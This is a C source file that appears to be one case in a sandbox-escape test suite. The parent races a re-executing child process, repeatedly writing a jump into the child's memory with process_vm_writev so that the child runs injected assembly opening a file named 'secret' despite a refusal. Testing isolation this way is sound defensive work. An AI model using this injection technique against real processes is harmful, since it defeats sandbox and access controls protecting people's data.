/*
** exec.c - another call in the place of those that set a new program up
**
** A process writes into its child, which executes a program: where that begins, where calls are
** made in its name before. It begins at 'start', in a section that can be written, and its
** addresses are fixed.
*/

#include "attack.h"

#include <sys/uio.h>
#include <sys/wait.h>

extern char start[], evil[];

/*
** What is written is a jump. The open that was refused comes back to the program's own beginning.
*/
__asm__(".pushsection .begin, \"awx\", @progbits\n"
        ".globl start, evil\n"
        "start: .fill 16, 1, 0x90\n"
        "1: jmp _start\n"
        "evil: mov $-100, %rdi\n"
        "  lea 2f(%rip), %rsi\n"
        "  xor %edx, %edx\n"
        "  xor %r10d, %r10d\n"
        "  mov $257, %eax\n"
        "  syscall\n"
        "  xor %edx, %edx\n"
        "  jmp 1b\n"
        "2: .asciz \"secret\"\n"
        ".popsection\n");

static void write_jump(pid_t child) {
  unsigned char jump[5] = {0xe9};
  int32_t distance = (int32_t)(evil - (start + sizeof jump));
  struct iovec local = {jump, sizeof jump}, remote = {start, sizeof jump};
  memcpy(jump + 1, &distance, sizeof distance);
  process_vm_writev(child, &local, 1, &remote, 1, 0);
}

/* Whether the child had the secret. */
static int try(void) {
  int status;
  pid_t child = fork();
  if (child < 0) fails("fork");
  if (child == 0) {
    execl("/proc/self/exe", "child", "0", NULL);
    _exit(3);
  }
  while (waitpid(child, &status, WNOHANG) == 0) write_jump(child);
  return WIFEXITED(status) && WEXITSTATUS(status) == 1;
}

int main(int argc, char *argv[]) {
  int tries = argc > 1 ? atoi(argv[1]) : 100, i;
  if (tries == 0) return has_secret();
  for (i = 1; i <= tries; i++)
    if (try()) won("by a call made for a new program", i);
  lost(tries);
}
